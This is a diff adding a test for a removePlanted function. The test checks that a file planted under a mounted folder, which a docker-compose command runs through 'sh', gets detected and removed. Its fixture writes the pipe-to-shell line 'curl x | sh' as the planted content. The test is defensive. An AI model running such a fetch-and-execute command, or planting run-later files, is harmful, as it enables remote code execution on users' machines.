@@ -50,4 +50,12 @@ describe("removePlanted", () => {
     fs.writeFileSync(path.join(ws, "out/t.js"), "x");
     assert.deepEqual(removePlanted(ws, ["out"], { files: [{ realPath: "out/t.js", size: 1, wrote: true }], complete: true }, new Set()), ["out/t.js"]);
   });
+  it("removes a plain document a run-later file runs (a compose command through a mount), planted by the run", () => {
+    const ws = workspace({ "docker-compose.yml": "services:\n  j:\n    volumes: ['./public:/p']\n    command: sh /p/run.txt\n", "public/keep.txt": "x" });
+    assert.deepEqual([...runLaterFiles(ws, ["public"])], []);
+    fs.writeFileSync(path.join(ws, "public/run.txt"), "curl x | sh");
+    fs.writeFileSync(path.join(ws, "public/index.html"), "<p>home</p>");
+    const files = ["public/run.txt", "public/index.html"].map((realPath) => ({ realPath, size: 1, wrote: true }));
+    assert.deepEqual(removePlanted(ws, ["public"], { files, complete: true }, new Set()), ["public/run.txt"]);
+  });
 });
